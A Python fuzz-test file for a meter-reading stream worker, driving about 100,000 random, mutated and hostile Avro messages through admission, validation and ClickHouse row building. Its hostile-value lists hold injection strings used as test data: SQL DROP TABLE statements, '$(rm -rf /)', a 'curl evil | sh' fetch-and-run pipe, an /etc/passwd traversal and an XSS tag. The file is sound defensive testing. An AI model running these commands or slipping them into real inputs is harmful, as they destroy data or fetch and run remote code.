"""Fuzzing the worker's pure path with hostile input: admission (size, decode, key, authority),
the rules against realistic account states, and the rows, state and reply built from the result.

`drive` is the worker's `Pipeline._process` without I/O: it must never raise, and every message
must end accepted or as rejections with a known reason code, in rows ClickHouse can always take
(a row it refuses would be retried forever and stall the partition). The bulk runs as seeded
loops, about 100,000 inputs in all (hypothesis costs ~1 ms an example, a loop ~0.1 ms); two
hypothesis tests add shrinking inputs on top. A failure names the seed and the input's bytes.
"""

from __future__ import annotations

import random
import string
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from streams.adapters.avro import MAGIC, default_codec
from streams.adapters.decode import (
    METER_INSTALLED,
    METER_REMOVED,
    PERIOD_CLOSE_REQUESTED,
    READING_SUBMITTED,
    SUBMISSION_OUTCOME,
    PeriodCloseRequested,
)
from streams.domain.account import AccountState
from streams.domain.calendar import Period
from streams.domain.closing import close_period
from streams.domain.model import (
    MeterInstalled,
    MeterRemoved,
    Reason,
    Rules,
    Submission,
)
from streams.domain.validation import apply_registry_event, apply_submission
from streams.pipeline.admission import (
    Refused,
    Source,
    admit,
)
from streams.pipeline.sink import (
    MAX_DETAIL_CHARS,
    OVERSIZED_PAYLOAD_KEPT,
    Row,
    billing_rows,
    submission_rows,
    undecodable_row,
)
from streams.pipeline.state import decode_state, encode_state
from streams.pipeline.worker import reply_datum
from streams.settings import DEFAULT_MAX_MESSAGE_BYTES
from tests.builders import installed_json, removed_json

CODEC = default_codec()
RULES = Rules()
CONTROL_KEY = b"billing-only"
NOW = datetime(2023, 6, 2, 9, 0, tzinfo=UTC)  # inside May 2023's window
SENDER_HASH = "0" * 64
BULK_PER_STRATEGY = 34_000  # three strategies: 102,000 inputs

# --- realistic accounts ---------------------------------------------------------------------

ACCOUNTS = tuple(f"{n:010d}" for n in range(1, 6))
TWO, SINGLE, THREE, REMOVED, EXCHANGED = ACCOUNTS
METER_IDS = ("GAMA-1", "NIK-2", "TRI-3", "GAMA-4", "GAMA-5", "GAMA-5B")

REGISTRY_EVENTS = [
    installed_json(TWO, "GAMA-1", {"day": 12000, "night": 6500}, "2021-03-15", dso="dtek-kem"),
    installed_json(SINGLE, "NIK-2", {"total": 99700}, "2022-01-10", digits=5, dso=""),
    installed_json(
        THREE, "TRI-3", {"peak": 100, "half_peak": 200, "night": 300}, "2023-02-02", digits=7
    ),
    installed_json(REMOVED, "GAMA-4", {"day": 500, "night": 400}, "2020-01-01"),
    removed_json(REMOVED, "GAMA-4", {"day": 900, "night": 700}, "2023-05-10"),
    installed_json(EXCHANGED, "GAMA-5", {"day": 999500, "night": 3000}, "2019-06-01"),
    removed_json(EXCHANGED, "GAMA-5", {"day": 999900, "night": 3300}, "2023-05-12"),
    installed_json(EXCHANGED, "GAMA-5B", {"total": 10}, "2023-05-12"),
]


def registry_datum(event: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """A registry event's record name and Avro datum, as the SDK makes them."""
    name = {"MeterInstalled": METER_INSTALLED, "MeterRemoved": METER_REMOVED}[event["type"]]
    return name, CODEC.from_json(name, {k: v for k, v in event.items() if k != "type"})


REGISTRY = [registry_datum(event) for event in REGISTRY_EVENTS]

HISTORY: list[tuple[str, datetime, list[dict[str, Any]]]] = [
    (TWO, datetime(2023, 3, 30, 10, tzinfo=UTC), [{"zone": "day", "value": 12900},
                                                   {"zone": "night", "value": 6900}]),
    (TWO, datetime(2023, 4, 29, 10, tzinfo=UTC), [{"register": "1.8.2", "value": 13500},
                                                   {"register": "T21", "value": 7200}]),
    (TWO, datetime(2023, 5, 30, 10, tzinfo=UTC), [{"register": "1.8.2", "value": 14000}]),
    (SINGLE, datetime(2023, 4, 30, 10, tzinfo=UTC), [{"zone": "total", "value": 99950}]),
    (THREE, datetime(2023, 3, 31, 10, tzinfo=UTC), [{"zone": "peak", "value": 400}]),
]  # fmt: skip


def initial_states() -> dict[str, AccountState | None]:
    """Accounts with meters of every zone set, closed months, open readings, an exchange."""
    states: dict[str, AccountState | None] = {}
    for name, datum in REGISTRY:
        outcome = admit(encode(name, datum), key(datum), Source.REGISTRY, control_key=CONTROL_KEY)
        assert isinstance(outcome, MeterInstalled | MeterRemoved)
        states[outcome.account_id] = apply_registry_event(states.get(outcome.account_id), outcome)
    for n, (account, at, readings) in enumerate(HISTORY):
        submission = submission_datum(account, at, readings, event_id=str(uuid.UUID(int=n + 1)))
        payload = encode(READING_SUBMITTED, submission)
        decoded = admit(payload, account.encode(), Source.READINGS, control_key=CONTROL_KEY)
        assert isinstance(decoded, Submission)
        state, outcome, _ = apply_submission(states[account], decoded, now=NOW, rules=RULES)
        assert all(r.accepted for r in outcome.readings), outcome
        states[account] = state
    for account, state in states.items():
        assert state is not None
        states[account], _ = close_period(state, Period(2023, 4))
    return states


def encode(name: str, datum: dict[str, Any]) -> bytes:
    return CODEC.encode(name, datum)


def key(datum: dict[str, Any]) -> bytes:
    return str(datum["account_id"]).encode()


def submission_datum(
    account: str, at: datetime, readings: list[dict[str, Any]], event_id: str | None = None
) -> dict[str, Any]:
    return {
        "event_id": event_id or str(uuid.uuid4()),
        "account_id": account,
        "meter_id": None,
        "channel": "viber",
        "sender_id": "u-77",
        "submitted_at": at,
        "readings": [{"zone": None, "register": None, "raw_text": None, **r} for r in readings],
    }


INITIAL = initial_states()  # frozen values: each driver starts from a copy of the dict


# --- the worker's path, minus I/O ------------------------------------------------------------


@dataclass
class Driver:
    """Feeds messages through the worker's pure path, keeping account state as the table does."""

    states: dict[str, AccountState | None] = field(default_factory=lambda: dict(INITIAL))
    outcomes: Counter[str] = field(default_factory=Counter)
    inputs: int = 0

    def drive(self, payload: bytes, message_key: bytes | None, source: Source) -> None:
        """One message, as `Pipeline._process` handles it; raises only on a broken invariant."""
        self.inputs += 1
        inbound = admit(payload, message_key, source, control_key=CONTROL_KEY)
        if isinstance(inbound, Refused):
            assert inbound.reason in Reason, inbound
            self.outcomes[inbound.reason] += 1
            row = undecodable_row(payload, inbound.detail, NOW, reason=inbound.reason)
            assert len(row[7]) <= MAX_DETAIL_CHARS
            assert_insertable([row], payload)
            return
        if isinstance(inbound, Submission):
            self._submission(inbound, payload)
        elif isinstance(inbound, MeterInstalled | MeterRemoved):
            assert source is Source.REGISTRY, "master data admitted off the registry topic"
            self.outcomes["registry"] += 1
            new = apply_registry_event(self.states.get(inbound.account_id), inbound)
            self.states[inbound.account_id] = decode_state(encode_state(new))
        else:
            assert isinstance(inbound, PeriodCloseRequested)
            assert source is Source.READINGS and inbound.signed_by(CONTROL_KEY)
            self.outcomes["close"] += 1
            for account, state in list(self.states.items()):
                if state is not None:
                    self.states[account], lines = close_period(state, inbound.period)
                    assert_insertable(billing_rows(lines, inbound.requested_at), b"")

    def _submission(self, submission: Submission, payload: bytes) -> None:
        before = self.states.get(submission.account_id)
        state, outcome, duplicate = apply_submission(before, submission, now=NOW, rules=RULES)
        # Moving forward through the rules only: a bot's submission never changes the account's
        # meters or reopens or closes a period, and judges every reading it carries.
        if before is not None and state is not None:
            assert state.meters == before.meters
            assert state.closed_through == before.closed_through
        whole = [r for r in outcome.readings if r.position == -1]
        if whole:
            assert len(outcome.readings) == 1 and whole[0].reason is Reason.MALFORMED
        elif not duplicate:
            assert [r.position for r in outcome.readings] == list(range(len(submission.readings)))
        for reading in outcome.readings:
            assert reading.reason is None or reading.reason in Reason
            self.outcomes[str(reading.reason or "accepted")] += 1
            if reading.accepted and not duplicate:
                assert reading.period is not None and reading.kind is not None
                closed = before.closed_through if before else None
                assert closed is None or reading.period > closed
        if state is not None:
            encoded = encode_state(state)
            assert decode_state(encoded) == state
            self.states[submission.account_id] = state
        accepted, rejected = submission_rows(
            submission, outcome, duplicate, SENDER_HASH, payload, NOW
        )
        assert_insertable(accepted, b"")
        assert all(len(row[7]) <= MAX_DETAIL_CHARS for row in rejected)
        assert_insertable(rejected, payload)
        CODEC.encode(SUBMISSION_OUTCOME, reply_datum(outcome, duplicate, NOW))


_INT64 = range(-(2**63), 2**63)


def assert_insertable(rows: list[Row], payload: bytes) -> None:
    """Every value fits its ClickHouse column, so an insert cannot fail on the data itself."""
    for row in rows:
        for value in row:
            if isinstance(value, str):
                value.encode("utf-8")  # strict: a lone surrogate would fail the insert forever
                assert len(value) <= DEFAULT_MAX_MESSAGE_BYTES, row
            elif isinstance(value, bool):
                continue
            elif isinstance(value, int):
                assert value in _INT64, row
            elif isinstance(value, datetime):
                assert 1900 <= value.year < 2300, row
            elif isinstance(value, bytes):
                assert value == payload or len(value) == OVERSIZED_PAYLOAD_KEPT, row
                assert len(value) <= DEFAULT_MAX_MESSAGE_BYTES, row
            elif isinstance(value, list):
                assert all(isinstance(v, str) for v in value), row


# --- hostile values ---------------------------------------------------------------------------

METACHARACTERS = [
    "0'; DROP TABLE pokazy.readings; --",
    '"; SELECT * FROM system.users; --',
    "$(rm -rf /)",
    "`reboot`",
    "a && curl evil | sh",
    "\\'\\\"\\\\",
    "%s%n%x{0}{db}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "line\nbreak\r\n",
    "nul\x00byte",
    "\u202eRTL\u200b\ufeff",
    "\U0001f600" * 10,
    "ї" * 64,
]
IDS = [*ACCOUNTS, "", " ", "\t", "9999999999", "x" * 64, "x" * 65, "x" * 200, *METACHARACTERS]
REGISTERS = [
    None, None, "1.8.2", "1.8.1", "1.8.0", "15.8.2", "T21", "t22", "\u042222", "1.8.2.", " 1.8.1 ",
    "2.8.0", "", "   ", "1" * 16, "1" * 17, "1.8.2" * 50, "T21'; --", "\x00", "\U0001f600",
]  # fmt: skip
ZONES = [None, "total", "day", "night", "peak", "half_peak"]
INSTANTS = [
    datetime(1, 1, 1, tzinfo=UTC),
    datetime(9999, 12, 31, 23, 59, 59, 999000, tzinfo=UTC),
    datetime(1970, 1, 1, tzinfo=UTC),
    datetime(1999, 12, 31, 23, 59, tzinfo=UTC),
    datetime(2200, 12, 31, 23, tzinfo=UTC),
    datetime(2201, 1, 1, tzinfo=UTC),
    datetime(2019, 1, 1, tzinfo=UTC),
    datetime(2023, 3, 25, 22, 30, tzinfo=UTC),  # DST weekend in Kyiv
    datetime(2023, 3, 31, 21, 30, tzinfo=UTC),  # 00:30 local on 1 April
    datetime(2023, 4, 29, 12, tzinfo=UTC),  # April's window: closed
    datetime(2023, 5, 11, 12, tzinfo=UTC),
    datetime(2023, 5, 15, 12, tzinfo=UTC),
    datetime(2023, 5, 30, 9, 15, tzinfo=UTC),
    datetime(2023, 6, 1, 8, tzinfo=UTC),
    NOW,
    NOW + timedelta(minutes=5),
    NOW + timedelta(minutes=5, milliseconds=1),
    NOW + timedelta(days=400),
]
EVENT_IDS = [str(uuid.UUID(int=n)) for n in range(1, 8)] + [
    "1B4E28BA-2FA1-11D2-883F-0016D3CCA427",
    "{1b4e28ba-2fa1-11d2-883f-0016d3cca427}",
    "urn:uuid:1b4e28ba-2fa1-11d2-883f-0016d3cca427",
    "1b4e28ba2fa111d2883f0016d3cca427",
    "not-a-uuid",
    "",
    "0" * 65,
    "'; DROP TABLE x; --",
]


def hostile_value(rng: random.Random) -> int:
    return rng.choice(
        [
            -(2**63), -1, 0, 1, 99_999, 100_000, 999_999, 1_000_000, 10**12, 2**63 - 1,
            12_000, 13_999, 14_000, 14_001, 16_500, 7_200, 7_300, 99_950, 99_990, 20,
            rng.randrange(-(2**63), 2**63), rng.randrange(0, 10**7),
        ]
    )  # fmt: skip


def hostile_text(rng: random.Random, pool: list[Any]) -> Any:
    if rng.random() < 0.8:
        return rng.choice(pool)
    alphabet = string.printable + "їЇєґ\u0422\x00\u202e\U0001f600\ud7ff\ue000"
    return "".join(rng.choice(alphabet) for _ in range(rng.choice([0, 1, 5, 16, 17, 64, 65, 300])))


def hostile_submission(rng: random.Random) -> tuple[dict[str, Any], bytes | None]:
    count = rng.choice([0, 1, 1, 1, 2, 2, 3, 3, 4, 1000] if rng.random() < 0.05 else [1, 2, 3])
    account = rng.choice(ACCOUNTS) if rng.random() < 0.7 else hostile_text(rng, IDS)
    readings = [
        {
            "zone": rng.choice(ZONES),
            "register": hostile_text(rng, REGISTERS) if rng.random() < 0.5 else None,
            "value": hostile_value(rng),
            "raw_text": rng.choice([None, "день 12345", "ї" * 1000, "ї" * 1001, "\x00'; --"]),
        }
        for _ in range(count)
    ]
    datum = {
        "event_id": rng.choice(EVENT_IDS) if rng.random() < 0.3 else str(uuid.uuid4()),
        "account_id": account,
        "meter_id": rng.choice([None, None, *METER_IDS, "", "x" * 65, METACHARACTERS[0]]),
        "channel": rng.choice(["viber", "telegram", "web", "other"]),
        "sender_id": hostile_text(rng, IDS),
        "submitted_at": rng.choice(INSTANTS)
        if rng.random() < 0.5
        else NOW - timedelta(milliseconds=rng.randrange(0, 200 * 86_400_000)),
        "readings": readings,
    }
    message_key = account.encode() if rng.random() < 0.9 else rng.choice([None, b"", b"\xff"])
    return datum, message_key


def hostile_registry(rng: random.Random) -> tuple[str, dict[str, Any]]:
    name, datum = rng.choice(REGISTRY)
    datum = dict(datum)
    field_name = rng.choice(list(datum))
    if field_name in ("account_id", "meter_id", "dso"):
        datum[field_name] = hostile_text(rng, IDS)
    elif field_name == "digits":
        datum["digits"] = rng.choice([0, 1, 6, 12, 13, -1, 2**31 - 1])
    elif field_name in ("initial", "final"):
        zones = rng.choice([[], ["day"], ["total"], ["day", "night"], ["peak", "night"], ["x"]])
        datum[field_name] = {z: hostile_value(rng) for z in zones}
    elif field_name == "zones":
        datum["zones"] = rng.choice([[], ["day"], ["day", "day"], ["total", "day"], ["night"]])
    elif field_name in ("installed_on", "removed_on"):
        datum[field_name] = rng.choice([date(1, 1, 1), date(9999, 12, 31), date(2023, 5, 31)])
    return name, datum


def close_datum(rng: random.Random) -> dict[str, Any]:
    at = NOW.replace(microsecond=0)
    period = rng.choice(["2023-05", "2023-04", "2023-13", "9999-12", "", "2023-5", "x" * 100])
    request = {"period": period, "requested_at": at, "requested_by": hostile_text(rng, IDS)}
    signed = PeriodCloseRequested(Period(2023, 5), at, request["requested_by"])
    request["signature"] = rng.choice(["", "00" * 32, signed.sign(b"a bot's guess")])
    return request


def valid_schema_messages(rng: random.Random) -> Iterator[tuple[bytes, bytes | None, Source]]:
    """Records that fit the schema, carrying hostile values, on either topic."""
    while True:
        roll = rng.random()
        source = Source.READINGS if rng.random() < 0.85 else Source.REGISTRY
        if roll < 0.8:
            datum, message_key = hostile_submission(rng)
            yield encode(READING_SUBMITTED, datum), message_key, source
        elif roll < 0.95:
            name, datum = hostile_registry(rng)
            yield encode(name, datum), str(datum["account_id"]).encode(), source
        else:
            yield encode(PERIOD_CLOSE_REQUESTED, close_datum(rng)), None, source


FINGERPRINTS = [CODEC.fingerprint(name) for name in CODEC.names]


def random_bytes(rng: random.Random) -> Iterator[tuple[bytes, bytes | None, Source]]:
    """Line noise, a pokazy header over noise, JSON, text in other encodings, huge blobs."""
    while True:
        roll = rng.random()
        if roll < 0.35:
            payload = rng.randbytes(rng.choice([0, 1, 2, 9, 10, 11, 32, 200]))
        elif roll < 0.8:
            payload = MAGIC + rng.choice(FINGERPRINTS) + rng.randbytes(rng.randrange(0, 120))
        elif roll < 0.9:
            payload = rng.choice([
                b'{"event_id":"x","account_id":"0000000001","readings":[{"value":NaN}]}',
                b'{"value": 1e30}', b"\xef\xbb\xbf{}", "показ 12345".encode("cp1251"),
                "показ".encode("utf-16"), b"\xc3\x01", b"\xc3", b"\x00" * 10,
            ])  # fmt: skip
        else:
            size = rng.choice([DEFAULT_MAX_MESSAGE_BYTES, DEFAULT_MAX_MESSAGE_BYTES + 1, 100_000])
            payload = MAGIC + rng.choice(FINGERPRINTS) + rng.randbytes(size - 10)
        message_key = rng.choice([None, b"", ACCOUNTS[0].encode(), rng.randbytes(8)])
        yield payload, message_key, rng.choice(list(Source))


def mutated_payloads(rng: random.Random) -> Iterator[tuple[bytes, bytes | None, Source]]:
    """Valid messages damaged: bits flipped, bytes cut, spliced, another record's header."""
    valid = valid_schema_messages(rng)
    while True:
        original, message_key, source = next(valid)
        payload = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            # Mostly in the body: a damaged header is refused before any parsing.
            body = min(len(MAGIC) + 8, len(payload))
            at = rng.randrange(body, len(payload) + 1) if rng.random() < 0.9 else 0
            kind = rng.randrange(7)
            if kind == 0 and at < len(payload):
                payload[at] ^= 1 << rng.randrange(8)
            elif kind == 1 and at < len(payload):
                payload[at] = rng.choice([0x00, 0x01, 0x7F, 0x80, 0xFE, 0xFF])
            elif kind == 2:
                payload[at:at] = rng.randbytes(rng.randint(1, 9))
            elif kind == 3:
                del payload[at : at + rng.randint(1, 4)]
            elif kind == 4:
                del payload[at:]
            elif kind == 5:  # the body read as another record type
                payload[2:10] = rng.choice(FINGERPRINTS)
            else:  # a huge varint: a length or count of up to 2**63
                payload[at:at] = b"\xff" * rng.randint(1, 9) + b"\x01"
        yield bytes(payload), message_key, source


STRATEGIES: dict[str, Callable[[random.Random], Iterator[tuple[bytes, bytes | None, Source]]]] = {
    "random_bytes": random_bytes,
    "mutated_avro": mutated_payloads,
    "hostile_values": valid_schema_messages,
}


def run_bulk(strategy: str, seed: int, count: int) -> Driver:
    rng = random.Random(seed)
    driver = Driver()
    messages = STRATEGIES[strategy](rng)
    for n in range(count):
        if n % 500 == 0:
            driver.states = dict(INITIAL)  # keep accounts realistic, not a pile-up of noise
        payload, message_key, source = next(messages)
        try:
            driver.drive(payload, message_key, source)
        except Exception as exc:
            raise AssertionError(
                f"{strategy} seed {seed} input {n}: {type(exc).__name__}: {exc}\n"
                f"key={message_key!r} source={source} payload={payload.hex()}"
            ) from exc
    return driver


# --- the tests ------------------------------------------------------------------------------


def test_the_realistic_accounts_accept_honest_readings() -> None:
    """The states the fuzz starts from are live: an honest reading of each is accepted."""
    driver = Driver()
    for account, readings in (
        (TWO, [{"register": "1.8.2", "value": 14100}, {"register": "1.8.1", "value": 7300}]),
        (SINGLE, [{"zone": "total", "value": 40}]),  # a rollover past 99999
        (THREE, [{"zone": "peak", "value": 500}, {"zone": "night", "value": 400}]),
        (EXCHANGED, [{"zone": "total", "value": 30}]),
    ):
        datum = submission_datum(account, datetime(2023, 5, 31, 12, tzinfo=UTC), readings)
        driver.drive(encode(READING_SUBMITTED, datum), account.encode(), Source.READINGS)
    assert driver.outcomes == Counter(accepted=6)


def test_fuzz_over_100000_hostile_inputs_ends_in_known_outcomes_only() -> None:
    """Random bytes, mutated Avro and hostile values through admission, rules, rows, replies."""
    seen: Counter[str] = Counter()
    driven = 0
    for seed, strategy in enumerate(STRATEGIES):
        driver = run_bulk(strategy, seed, BULK_PER_STRATEGY)
        driven += driver.inputs
        seen.update(driver.outcomes)
    assert driven >= 100_000
    # The generators reach every corner: each reason code (and acceptance) actually happened,
    # so a generator that degenerated into noise would fail here; a defect never did.
    expected = {str(r) for r in Reason if r is not Reason.INTERNAL_ERROR} | {"accepted", "registry"}
    assert expected <= set(seen), expected - set(seen)


_FUZZ = settings(
    max_examples=1500, deadline=None, database=None, suppress_health_check=list(HealthCheck)
)
_SEEDED = st.integers(0, 2**32 - 1)


@_FUZZ
@given(
    st.one_of(
        st.binary(max_size=300),
        st.tuples(st.sampled_from(FINGERPRINTS), st.binary(max_size=200)).map(
            lambda t: MAGIC + t[0] + t[1]
        ),
    ),
    st.sampled_from([None, TWO.encode(), b"\xff"]),
    st.sampled_from(list(Source)),
)
def test_hypothesis_bytes_never_raise(
    payload: bytes, message_key: bytes | None, source: Source
) -> None:
    driver = Driver(states={})
    driver.drive(payload, message_key, source)
    assert sum(driver.outcomes.values()) >= 1


@_FUZZ
@given(_SEEDED, st.sampled_from(list(STRATEGIES)))
def test_hypothesis_structured_inputs_never_raise(seed: int, strategy: str) -> None:
    """Hypothesis picks the seeds (and shrinks them): one generated message per example."""
    payload, message_key, source = next(STRATEGIES[strategy](random.Random(seed)))
    driver = Driver()
    driver.drive(payload, message_key, source)
    assert sum(driver.outcomes.values()) >= 1
